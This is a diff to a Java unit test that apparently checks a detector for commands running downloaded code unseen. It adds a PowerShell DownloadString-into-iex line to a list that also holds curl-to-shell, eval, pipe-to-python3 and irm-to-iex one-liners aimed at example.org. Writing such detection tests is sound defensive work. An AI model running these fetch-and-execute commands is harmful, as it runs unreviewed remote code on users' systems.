@@ -18,7 +18,8 @@ class DownloadsTest {
         "sh -c \"$(curl -fsSL https://example.org/x)\"",
         "eval \"$(curl https://example.org/x)\"",
         "curl -sSL https://example.org/x.py | python3 -",
-        "irm https://example.org/x.ps1 | iex"
+        "irm https://example.org/x.ps1 | iex",
+        "iex ((New-Object System.Net.WebClient).DownloadString('https://example.org/x.ps1'))"
       })
   void whatIsRunUnseenIsFound(String command) {
     assertThat(Downloads.inCommand(command, 1))
